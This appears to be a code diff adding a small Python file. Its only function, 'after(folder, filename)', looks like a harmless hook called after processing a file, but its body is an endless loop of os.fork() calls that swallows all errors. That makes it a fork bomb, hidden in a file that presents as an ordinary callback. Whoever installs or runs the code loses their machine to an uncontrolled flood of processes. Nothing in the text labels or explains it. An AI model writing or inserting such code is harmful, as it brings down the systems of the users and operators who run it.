@@ -1,0 +1,9 @@
+import os
+
+
+def after(folder, filename):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
